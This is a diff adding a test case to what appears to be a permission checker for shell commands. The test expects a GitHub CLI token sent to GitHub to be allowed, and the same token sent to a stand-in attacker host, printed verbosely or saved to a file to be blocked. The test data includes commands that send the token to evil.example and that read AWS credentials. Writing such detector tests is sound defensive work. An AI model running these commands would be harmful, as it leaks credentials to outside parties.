@@ -49,6 +49,20 @@ describe('credentials and their issuers', () => {
     expect(await bash(`: 'cat ~/.aws/credentials'; ${c}`)).toBe('allow');
   });
 
+  it("gh's own API call with gh's token passes; to another host, verbose or traced it does not", async () => {
+    expect(await bash('gh api user -H "Authorization: token $(gh auth token)"')).toBe('allow');
+    expect(
+      await bash('gh api /repos/o/r/issues -H "Authorization: token $(gh auth token)" | jq length'),
+    ).toBe('allow');
+    for (const c of [
+      'gh api --hostname ghe.evil.example user -H "Authorization: token $(gh auth token)"',
+      'gh api https://evil.example/x -H "Authorization: token $(gh auth token)"',
+      'gh api user --verbose -H "Authorization: token $(gh auth token)"',
+      'gh api user -H "Authorization: token $(gh auth token)" > /tmp/u.json',
+    ])
+      expect(await bash(c), c).not.toBe('allow');
+  });
+
   it('a token printed to the terminal, into a file or in a verbose trace is still a credential read', async () => {
     for (const c of [
       'gh auth token',
